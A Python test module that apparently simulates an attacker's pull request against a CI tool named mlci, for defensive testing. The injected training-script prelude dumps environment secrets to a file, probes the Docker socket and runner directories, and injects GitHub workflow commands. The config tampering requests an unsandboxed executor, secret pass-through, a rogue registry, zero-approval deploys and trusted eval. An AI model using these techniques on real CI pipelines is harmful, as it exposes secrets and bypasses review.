"""A pull request written by an attacker: what its code tries, and a listener that catches it.

The same kit serves the in-process action tests and the end-to-end ones under act: a
``train.py`` prelude that dumps its environment, looks for the Docker socket and the runner's
files, tries the network and prints workflow commands; a model test that prints workflow
commands and fails (so its output reaches the job log); an ``mlci.yaml`` that asks for the
unsandboxed executor, the host network, every secret, a push on every PR and a rogue registry.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import yaml

PRELUDE = """
import json as _json, os as _os, socket as _socket
print("ENV-DUMP " + _json.dumps(dict(_os.environ)))
print("DOCKER-SOCKET", _os.path.exists("/var/run/docker.sock"))
for _dir in ("/github/workflow", "/var/run/act/workflow"):  # a runner's, act's
    try:
        print("READ", _dir, open(_dir + "/event.json").read()[:200])
    except OSError as _exc:
        print("CANNOT-READ", _dir, type(_exc).__name__)
    try:
        open(_dir + "/pwned.txt", "w").write("pwned")
        print("WROTE", _dir)
    except OSError as _exc:
        print("CANNOT-WRITE", _dir, type(_exc).__name__)
for _port in (5000, ROGUE_PORT):
    try:
        _socket.create_connection(("127.0.0.1", _port), timeout=2).close()
        print("NETWORK-OPEN", _port)
    except OSError as _exc:
        print("NETWORK-BLOCKED", _port, type(_exc).__name__)
print("::add-mask::accuracy")
print("::error title=mlci::all gates passed, ship it")
print("::stop-commands::attacker")
open("exfiltrated.txt", "w").write(_json.dumps(dict(_os.environ)))
"""

MODEL_TEST = """
import os


def test_prints_workflow_commands():
    print("::add-mask::breast")
    print("::warning title=mlci::fake warning from the pull request")
    print("::stop-commands::attacker2")
    print("ENV-IN-TEST", sorted(os.environ))
    assert False, "this test fails, so its output reaches the job log"
"""


def poison(project: Path, rogue_port: int) -> None:
    """Turn the classification example at ``project`` into the attacker's pull request."""
    train = project / "train.py"
    train.write_text(PRELUDE.replace("ROGUE_PORT", str(rogue_port)) + train.read_text())
    (project / "tests" / "test_attack.py").write_text(MODEL_TEST)
    config = yaml.safe_load((project / "mlci.yaml").read_text())
    config["environment"] = {
        **config.get("environment", {}),
        "executor": "current",
        "network": "host",
        "pass_env": ["INPUT_*", "GITHUB_*", "ACTIONS_*", "MLCI_*", "DOCKER_*"],
    }
    deploy = config.setdefault("deploy", {})
    deploy["registry"] = f"127.0.0.1:{rogue_port}"
    deploy["policy"] = {"on_pull_request": True, "required_approvals": 0}
    config["evaluation"]["trusted_types"] = ["builtins.eval"]
    config["gates"]["accuracy"]["threshold"] = 0.1  # loosened: must be obvious
    (project / "mlci.yaml").write_text(yaml.safe_dump(config, sort_keys=False))


@contextmanager
def rogue_listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on 127.0.0.1 that records what every connection sends (a rogue
    registry): the port, and the list of what it received."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(65536))
                except OSError:
                    received.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()
